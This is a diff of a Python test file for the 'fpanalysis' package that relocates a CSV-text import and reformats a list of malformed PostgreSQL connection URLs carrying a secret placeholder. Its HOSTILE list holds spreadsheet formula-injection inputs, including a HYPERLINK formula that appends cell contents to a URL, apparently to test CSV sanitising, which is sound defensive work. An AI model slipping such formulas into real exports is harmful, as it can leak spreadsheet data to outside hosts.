@@ -15,9 +15,9 @@ from typer.testing import CliRunner
 
 import fpanalysis as fpa
 from fpanalysis import cli
+from fpanalysis.csv_text import as_text, from_text
 from fpanalysis.records import StoreError, figures, places, restore
 from fpanalysis.records.apart import Described
-from fpanalysis.records.csv_text import as_text, from_text
 
 HOSTILE = [
     "=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1", "'quoted", "'=1",
@@ -140,7 +140,8 @@ URLS = [
     f"postgresql://me@localhost:1/x?password={SECRET}", f"postgresql://localhost:1/x?user=me&password={SECRET}",
     f"postgresql://me:a@{SECRET}@localhost:1/x", f"postgresql://me:a/{SECRET}@localhost:1/x",
     f"postgresql://me:pass:{SECRET}@localhost:1/x", f"postgresql://me:{SECRET}@localhost:port/x",
-    f"postgresql+psycopg://me:{SECRET}@localhost:1/x?sslpassword={SECRET}", f"postgresql:/me:{SECRET}@localhost/x",
+    f"postgresql+psycopg://me:{SECRET}@localhost:1/x?sslpassword={SECRET}",
+    f"postgresql:/me:{SECRET}@localhost/x",
     f"postgresql://me@localhost:{SECRET}/x", f"postgresql+asyncpg://me:{SECRET}@localhost:1/x",
     f"postgresql://me:{SECRET}@[::1:1/x", f"postgresql://me:a#{SECRET}@localhost:1/x",
 ]  # fmt: skip
